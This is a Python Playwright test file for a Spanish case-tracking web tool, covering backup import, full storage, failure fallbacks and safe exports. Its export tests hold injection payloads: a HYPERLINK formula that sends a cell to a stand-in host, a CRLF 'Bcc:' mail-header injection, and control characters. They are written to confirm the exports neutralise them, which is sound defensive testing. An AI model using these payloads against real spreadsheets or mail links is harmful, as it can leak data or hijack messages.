"""Nothing lost, nothing locked, nothing injected (issue 21), as a reader meets each failure
the issue measured: by visible Spanish labels and messages, in real Chromium."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from followup import storage
from followup.model import CaseFile, Channel, Interaction
from followup.storage import CaseLog
from tests.conftest import ROOT

from .conftest import READY, wait_saved, wait_until

LOG = "herramientas/registro/"
KEY = "sigue-tu-caso"
SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"


def seed(page: Page, document: str | dict[str, Any]) -> None:
    """What a browser holds from earlier visits (or another version), then a reload."""
    text = document if isinstance(document, str) else json.dumps(document)
    page.evaluate("([key, text]) => localStorage.setItem(key, text)", [KEY, text])
    page.reload()


def ready(page: Page) -> None:
    page.wait_for_selector(READY, timeout=60_000)


def case_names(page: Page) -> list[str]:
    names: list[str] = page.get_by_label("Caso activo").locator("option").all_inner_texts()
    return names


def import_file(page: Page, path: Path) -> None:
    page.get_by_label("Importar copia de seguridad (JSON)").set_input_files(path)


def download(page: Page, button: str, to: Path) -> Path:
    with page.expect_download() as info:
        page.get_by_role("button", name=button).click()
    target = to / info.value.suggested_filename
    info.value.save_as(target)
    return target


# --- import adds ----------------------------------------------------------------------------

FIVE = CaseLog(
    cases=tuple(CaseFile(id=f"c{i}", case_number=f"10{i}", company="Conecta") for i in range(5)),
    active_id="c0",
)


def test_importing_a_backup_adds_its_cases_and_can_be_undone(
    open_tool: Any, tmp_path: Path
) -> None:
    page = open_tool(LOG)
    seed(page, storage.serialize(FIVE))
    ready(page)
    backup = tmp_path / "copia.json"
    one_new_one_known = CaseLog(
        cases=(
            CaseFile(id="c0", case_number="100", company="Conecta", summary="Sin línea"),
            CaseFile(id="n1", case_number="48213"),
            CaseFile(id="n2", case_number="48214"),
        )
    )
    backup.write_text(storage.serialize(one_new_one_known), encoding="utf-8")
    import_file(page, backup)
    result = page.locator("[data-region='import-result']")
    expect(result).to_have_text("Se añadieron 2 casos; 1 ya estaba y se actualizó.")
    assert case_names(page) == [*(f"Caso #10{i}" for i in range(5)), "Caso #48213", "Caso #48214"]
    saved = wait_saved(page, "doc.cases.length === 7")
    assert saved["cases"][0]["summary"] == "Sin línea"

    page.get_by_role("button", name="Deshacer la importación").click()
    expect(page.locator("[data-region='notice']").first).to_contain_text("Importación deshecha")
    assert case_names(page) == [f"Caso #10{i}" for i in range(5)]
    wait_saved(page, "doc.cases.length === 5 && !doc.cases[0].summary")


def test_a_backup_with_no_cases_empties_nothing(open_tool: Any, tmp_path: Path) -> None:
    page = open_tool(LOG)
    seed(page, storage.serialize(FIVE))
    ready(page)
    empty = tmp_path / "vacia.json"
    empty.write_text(storage.serialize(CaseLog()), encoding="utf-8")
    import_file(page, empty)
    expect(page.locator("[data-region='import-result']")).to_contain_text("no ha cambiado nada")
    assert len(case_names(page)) == 5


def test_where_both_sides_changed_a_field_the_reader_chooses(
    open_tool: Any, tmp_path: Path
) -> None:
    page = open_tool(LOG)
    page.get_by_label("Empresa", exact=True).fill("Conecta")
    document = wait_saved(page, "doc.cases[0].company === 'Conecta'")
    case_id = document["cases"][0]["id"]
    backup = tmp_path / "copia.json"
    backup.write_text(
        storage.serialize(CaseLog(cases=(CaseFile(id=case_id, company="Conecta Fibra"),))),
        encoding="utf-8",
    )
    import_file(page, backup)
    conflicts = page.locator("[data-region='import-conflicts']")
    expect(conflicts).to_contain_text("Empresa: aquí «Conecta»; en la copia «Conecta Fibra».")
    expect(page.get_by_label("Empresa", exact=True)).to_have_value("Conecta")  # until chosen
    page.reload()  # the file's value waits, saved
    ready(page)
    expect(conflicts).to_contain_text("en la copia «Conecta Fibra»")
    page.get_by_role("button", name="Usar el de la copia: Empresa").click()
    expect(page.get_by_label("Empresa", exact=True)).to_have_value("Conecta Fibra")
    expect(conflicts).to_be_empty()


def test_an_import_that_does_not_fit_changes_nothing_and_says_how_to_make_room(
    open_tool: Any, tmp_path: Path
) -> None:
    page = open_tool(LOG)
    page.get_by_label("Número de caso").fill("777")
    wait_saved(page, "doc.cases[0].case_number === '777'")
    fill_storage(page, leave=200_000)
    big = tmp_path / "grande.json"
    cases = [CaseFile(id=f"g{i}", summary="ñ" * 1900, case_number=str(i)) for i in range(300)]
    big.write_text(storage.serialize(CaseLog(cases=tuple(cases))), encoding="utf-8")
    import_file(page, big)
    error = page.locator("[data-region='error-import']")
    expect(error).to_contain_text("No se ha importado nada")
    expect(error).to_contain_text("copia de seguridad (JSON)")
    assert case_names(page) == ["Caso #777"]
    page.reload()
    ready(page)
    assert case_names(page) == ["Caso #777"]


def test_a_1_8_mb_backup_is_imported_saved_and_still_there_after_a_reload(
    open_tool: Any, tmp_path: Path
) -> None:
    """Stored indented with every default field, it took 5.6 M characters and did not fit;
    the reader was told the browser was full or private, and lost it on the reload."""
    from tests.unit.test_storage import _bare_backup

    page = open_tool(LOG)
    backup = tmp_path / "copia-grande.json"
    backup.write_text(_bare_backup(45, 1000), encoding="utf-8")
    assert backup.stat().st_size > 1_800_000
    import_file(page, backup)
    result = page.locator("[data-region='import-result']")
    expect(result).to_have_text("Se añadieron 45 casos.", timeout=60_000)
    stored = wait_saved(page, "doc.cases.length === 45")
    assert len(json.dumps(stored, separators=(",", ":"))) < 1_900_000
    page.reload()
    ready(page)
    assert len(case_names(page)) == 45


# --- a full storage --------------------------------------------------------------------------


def fill_storage(page: Page, leave: int) -> None:
    """Another site's worth of data on this origin: localStorage is full but for `leave`
    characters (Chromium allows about 5 million)."""
    page.evaluate(
        """(leave) => {
          let size = 1 << 20;
          for (let i = 0; size > leave / 4; i++) {
            try {
              localStorage.setItem(`relleno:${i}`, "\u20ac".repeat(size));
            } catch {
              size = Math.floor(size / 2);
            }
          }
        }""",
        leave,
    )


def test_a_full_storage_names_the_backup_and_keeps_what_was_typed_on_a_reload(
    open_tool: Any,
) -> None:
    page = open_tool(LOG)
    page.get_by_label("Número de caso").fill("777")
    wait_saved(page, "doc.cases[0].case_number === '777'")
    fill_storage(page, leave=0)
    page.get_by_label("Empresa", exact=True).fill("Conecta Fibra")  # more than is left
    notice = page.locator("[data-region='notice']").first
    expect(notice).to_contain_text("está lleno")
    expect(notice).to_contain_text("copia de seguridad (JSON)")
    expect(notice).not_to_contain_text("modo privado")
    page.reload()
    ready(page)
    expect(page.get_by_label("Empresa", exact=True)).to_have_value("Conecta Fibra")
    with page.expect_download() as info:  # and the backup has it
        page.get_by_role("button", name="Descargar copia de seguridad (JSON)").click()
    backup = json.loads(Path(info.value.path()).read_text(encoding="utf-8"))
    assert backup["cases"][0]["company"] == "Conecta Fibra"


# --- stored data re-checked; nothing locked ---------------------------------------------------


def test_a_stored_value_out_of_range_is_set_aside_and_the_case_log_works(
    open_tool: Any, tmp_path: Path
) -> None:
    page = open_tool(LOG)
    seed(
        page,
        {
            "version": 3,
            "active_id": "a",
            "cases": [
                {
                    "id": "a",
                    "case_number": "48213",
                    "sla_amount": -1,
                    "opened": "9999-12-31",
                    "next_action": "9999-12-31",
                },
                {"id": "b", "case_number": "777"},
            ],
        },
    )
    ready(page)
    status = page.locator("[data-stc-tool='caselog'] [data-stc-status]")
    expect(status).not_to_contain_text("error")
    aside = page.locator("[data-region='set-aside']")
    expect(aside).to_contain_text("Plazo de respuesta prometido: «-1».")
    expect(aside).to_contain_text("Fecha de apertura: «9999-12-31». Escribe una fecha entre")
    assert case_names(page) == ["Caso #48213", "Caso #777"]
    # The .ics export of a stored 9999-12-31 crashed; the date is set aside now.
    page.get_by_role("button", name="Descargar recordatorio (.ics)").click()
    expect(page.locator("[data-region='error-next_action']")).to_contain_text("fecha")
    # Typing works and is saved; the backup keeps what was set aside.
    page.get_by_label("Empresa", exact=True).fill("Conecta")
    saved = wait_saved(page, "doc.cases[0].company === 'Conecta'")
    assert saved["cases"][0]["set_aside"]["sla_amount"] == [-1]
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Descartar los datos apartados").click()
    expect(aside).to_be_empty()


def broken_wheel(base_url: str, path: str) -> bytes:
    """The site's followup wheel with a core that fails on every mount (read over HTTP, with
    no page open: a page's first visit would start the tool and keep a snapshot of it)."""
    import urllib.parse
    import urllib.request

    with urllib.request.urlopen(base_url + path) as response:
        html = response.read().decode("utf-8")
    found = re.search(r'<script type="module" src="([^"]*/herramientas\.js)"', html)
    assert found, "the page loads no tools"
    script = urllib.parse.urljoin(base_url + path, found.group(1))
    url = re.sub(r"herramientas\.js$", "pyodide/followup-0.1.0-py3-none-any.whl", script)
    with urllib.request.urlopen(url) as response:
        original = response.read()
    # The wheel ships bytecode (controller.pyc): the broken core goes in as source, from
    # this checkout, in its place.
    source = (ROOT / "pylib" / "followup" / "controller.py").read_bytes()
    mount = b"def on_mount(state: State, event: Event) -> tuple[State, list[Effect]]:\n"
    assert mount in source
    broken = source.replace(mount, mount + b"    raise RuntimeError('broken on purpose')\n")
    out = io.BytesIO()
    replaced = False
    with zipfile.ZipFile(io.BytesIO(original)) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            if item.filename in ("followup/controller.pyc", "followup/controller.py"):
                zout.writestr("followup/controller.py", broken)
                replaced = True
            else:
                zout.writestr(item, zin.read(item))
    assert replaced, "the wheel has no followup/controller module"
    return out.getvalue()


def test_a_tool_that_fails_never_says_it_is_ready_and_the_backup_and_clear_still_work(
    context: BrowserContext, page: Page, base_url: str, tmp_path: Path
) -> None:
    # Broken from the first visit: a visit with the good package would keep a start-up
    # snapshot holding it (stored again as the page is hidden), and the reload would use it.
    wheel = broken_wheel(base_url, LOG)
    context.route(
        "**/followup-*.whl", lambda route: route.fulfill(body=wheel, content_type="application/zip")
    )
    page.goto(base_url + LOG)
    page.evaluate(
        "(text) => localStorage.setItem('sigue-tu-caso', text)",
        storage.serialize(CaseLog(cases=(CaseFile(id="a", case_number="48213"),), active_id="a")),
    )
    page.reload()
    tool = page.locator("[data-stc-tool='caselog']")
    status = tool.locator("[data-stc-status]")
    expect(status).to_contain_text("La herramienta tuvo un error")
    expect(tool).to_have_attribute("data-mounted", "failed")
    expect(status).not_to_contain_text("Listo para usar sin conexión")
    backup = download(page, "Descargar copia de seguridad (JSON)", tmp_path)
    assert json.loads(backup.read_text(encoding="utf-8"))["cases"][0]["case_number"] == "48213"
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Borrar mis datos").click()
    expect(status).to_contain_text("Se han borrado todos tus datos")
    left = page.evaluate("localStorage.getItem('sigue-tu-caso')")
    assert "48213" not in left and json.loads(left)["cases"] == []


def test_when_python_does_not_start_the_backup_and_clear_work_from_storage(
    page: Page, base_url: str, tmp_path: Path
) -> None:
    page.context.add_init_script("globalThis.stcStartDeadlineMs = 4000")
    page.goto(base_url + LOG)
    page.evaluate(
        "(text) => localStorage.setItem('sigue-tu-caso', text)",
        storage.serialize(CaseLog(cases=(CaseFile(id="a", case_number="777"),), active_id="a")),
    )
    page.context.route(
        "**/*.wasm",
        lambda route: route.fulfill(status=200, body=b"<html>portal cautivo</html>"),
    )
    page.reload()
    status = page.locator("[data-stc-tool='caselog'] [data-stc-status]")
    expect(status).to_contain_text("No se pudo cargar la herramienta", timeout=30_000)
    backup = download(page, "Descargar copia de seguridad (JSON)", tmp_path)
    assert json.loads(backup.read_text(encoding="utf-8"))["cases"][0]["case_number"] == "777"
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Borrar mis datos").click()
    expect(status).to_contain_text("Se han borrado todos tus datos")


# --- safe exports ------------------------------------------------------------------------------


def calc_cells(csv_file: Path, out: Path) -> list[tuple[str, str, str]]:
    """Every cell of the second row on as LibreOffice Calc reads the CSV, set to Spanish
    (semicolons, UTF-8) and to evaluate formulas as Excel does: (text, value type, formula)."""
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{out / 'profile'}",
            "--headless",
            "--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1,true",
            "--convert-to",
            "fods",
            "--outdir",
            str(out / "calc"),
            str(csv_file),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    xml = (out / "calc" / csv_file.with_suffix(".fods").name).read_text(encoding="utf-8")
    cells = []
    for row in re.findall(r"<table:table-row[^>]*>(.*?)</table:table-row>", xml, re.S)[1:]:
        for attrs, body in re.findall(
            r"<table:table-cell([^>]*)>(.*?)</table:table-cell>", row, re.S
        ):
            kind = re.search(r'office:value-type="([^"]*)"', attrs)
            formula = re.search(r'table:formula="([^"]*)"', attrs)
            text = re.sub(r"<[^>]+>", "", body).strip()
            cells.append((text, kind.group(1) if kind else "", formula.group(1) if formula else ""))
    return cells


HOSTILE = [
    '\x00=HYPERLINK("http://x.example/?"&B2;"Ver caso")',
    "\t=1+1",
    "  +34 600 000 000",
    "\u200b@SUMA(1;2)",
    "＝1+1",
    "-2+3",
]


@pytest.mark.skipif(not Path(SOFFICE).exists(), reason="make test installs libreoffice-calc-nogui")
def test_no_exported_cell_runs_as_a_formula_and_case_numbers_keep_their_digits(
    open_tool: Any, tmp_path: Path
) -> None:
    page = open_tool(LOG)
    cases = [
        CaseFile(
            id=f"h{i}",
            title=text,
            case_number=number,
            company=text,
            summary=text,
            interactions=(Interaction(dt_day(), Channel.EMAIL, agent="Ana", note=text),),
        )
        for i, (text, number) in enumerate(
            zip(HOSTILE, ["000123", "1234567890123456789", "12-05", "5", "6", "7"], strict=True)
        )
    ]
    backup = tmp_path / "copia.json"
    backup.write_text(storage.serialize(CaseLog(cases=tuple(cases))), encoding="utf-8")
    import_file(page, backup)
    expect(page.locator("[data-region='import-result']")).to_contain_text("Se añadieron 6")
    for button in ("Descargar hoja de cálculo (CSV)", "Descargar historial (CSV)"):
        sheet = download(page, button, tmp_path)
        cells = calc_cells(sheet, tmp_path)
        assert [c for c in cells if c[2]] == [], "a cell runs as a formula"
        texts = [c[0] for c in cells]
        assert "#000123" in texts and "#1234567890123456789" in texts and "#12-05" in texts
        rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig")), delimiter=";"))
        assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", c) for r in rows for c in r)


def dt_day() -> Any:
    import datetime as dt

    return dt.date(2026, 11, 4)


# Text as a paste puts it in a field, control characters included.
TYPE_RAW = """(el, value) => {
  el.value = value;
  el.dispatchEvent(new Event("input", { bubbles: true }));
}"""


def test_control_characters_typed_never_reach_the_calendar_file_or_the_mail_link(
    open_tool: Any, tmp_path: Path
) -> None:
    import icalendar

    page = open_tool(LOG)
    for label, value in (("Número de caso", "48\x00213"), ("Empresa", "Conecta\x07\x1b Fibra\x7f")):
        field = page.get_by_label(label, exact=True)
        field.evaluate(TYPE_RAW, value)
    page.get_by_label("Próxima acción").fill("2026-11-20")
    expect(page.get_by_label("Caso activo").locator("option:checked")).to_have_text("Caso #48213")
    ics = download(page, "Descargar recordatorio (.ics)", tmp_path).read_bytes().decode("utf-8")
    assert not re.search("[\x00-\x08\x0a-\x1f\x7f]", ics.replace("\r\n", ""))
    (event,) = icalendar.Calendar.from_ical(ics).walk("VEVENT")
    assert str(event["SUMMARY"]) == "Seguimiento del caso #48213 – Conecta Fibra"


def test_a_line_break_in_a_stored_case_number_adds_no_header_to_the_mail_link(
    open_tool: Any,
) -> None:
    page = open_tool("redactar/")
    seed(
        page,
        storage.serialize(
            CaseLog(cases=(CaseFile(id="a", case_number="48213\r\nBcc: espia@example.com"),))
        ),
    )
    ready(page)
    href = page.get_by_role("link", name="Abrir en el correo").get_attribute("href") or ""
    head = href.split("&body=")[0].upper()
    assert href.startswith("mailto:") and "%0D" not in head and "%0A" not in head


# --- two tabs ---------------------------------------------------------------------------------


def test_a_tab_closed_right_after_typing_loses_nothing_to_another_tab(
    open_tool: Any, context: BrowserContext, base_url: str
) -> None:
    """Tab A changes «Empresa» while tab B changes «Resumen del problema»; B is closed at
    once (before its save's delay is over): both are stored, and A shows both."""
    page = open_tool("redactar/")
    page.get_by_label("Número de caso").fill("48213")
    wait_saved(page, "doc.cases[0].case_number === '48213'")
    other = context.new_page()
    other.goto(base_url + "redactar/")
    ready(other)
    page.bring_to_front()
    page.get_by_label("Empresa", exact=True).fill("Conecta Fibra")
    other.bring_to_front()
    summary = other.get_by_label("Resumen del problema")
    summary.fill("Sin internet desde el lunes")
    expect(other.get_by_label("Caso activo").locator("option:checked")).to_have_text("Caso #48213")
    wait_until(other, "() => globalThis.__sigueTuCaso.replies.length === 0")  # B shows it
    other.close(run_before_unload=True)
    page.bring_to_front()
    wait_saved(
        page,
        "doc.cases[0].company === 'Conecta Fibra'"
        " && doc.cases[0].summary === 'Sin internet desde el lunes'",
    )
    page.reload()
    ready(page)
    expect(page.get_by_label("Empresa", exact=True)).to_have_value("Conecta Fibra")
